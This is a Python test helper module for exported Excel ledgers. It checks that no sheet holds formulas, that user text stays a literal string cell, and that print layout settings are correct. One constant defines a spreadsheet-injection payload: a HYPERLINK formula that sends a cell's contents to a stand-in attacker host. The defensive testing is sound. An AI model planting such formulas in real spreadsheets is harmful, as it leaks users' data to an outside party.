"""Reading an exported workbook back the way an attacker's victim would open it: no formula anywhere in the sheet
XML, and user text back as the literal text in a string cell."""

from __future__ import annotations

import io
import re
import zipfile

from openpyxl import load_workbook

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?q="&A2,"查看")'


def assert_no_formulas(content: bytes) -> None:
    """No worksheet in the .xlsx holds a formula element (``<f>`` or ``<f ...>``)."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/") and name.endswith(".xml")]
        assert sheets
        for name in sheets:
            xml = archive.read(name).decode("utf-8")
            assert not re.search(r"<(\w+:)?f[\s>/]", xml), name


def text_cells(content: bytes, text: str) -> list:
    """Every cell of every sheet whose value is exactly ``text``; each must be a string cell."""
    assert_no_formulas(content)
    workbook = load_workbook(io.BytesIO(content))
    found = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row if cell.value == text]
    assert found, f"{text!r} is not in the workbook"
    for cell in found:
        assert cell.data_type == "s", (cell.coordinate, cell.data_type)
    return found


def assert_print_ready(content: bytes, *title_parts: str) -> list:
    """Every sheet prints as a ledger should: landscape A4, one page wide (any number tall), the header row (row 2)
    repeated on each page, frozen below it, and a title row holding ``title_parts`` (name, scope, date). Returns the
    sheets."""
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        setup = sheet.page_setup
        assert setup.orientation == "landscape", sheet.title
        assert int(setup.paperSize) == 9, sheet.title  # A4
        assert sheet.sheet_properties.pageSetUpPr.fitToPage, sheet.title
        # OOXML defaults fitToWidth to 1 (XlsxWriter leaves it out); fitToHeight 0 means "as many pages as needed".
        assert int(setup.fitToWidth or 1) == 1 and setup.fitToHeight is not None and int(setup.fitToHeight) == 0
        assert str(sheet.print_title_rows) == "$2:$2", (sheet.title, sheet.print_title_rows)
        assert sheet.freeze_panes == "A3", sheet.title
        title = sheet["A1"].value
        for part in title_parts:
            assert part in title, (title, part)
    return workbook.worksheets


def table(sheet) -> list[tuple]:
    """A ledger sheet's header row and data rows (the title row above them left out)."""
    return list(sheet.iter_rows(min_row=2, values_only=True))
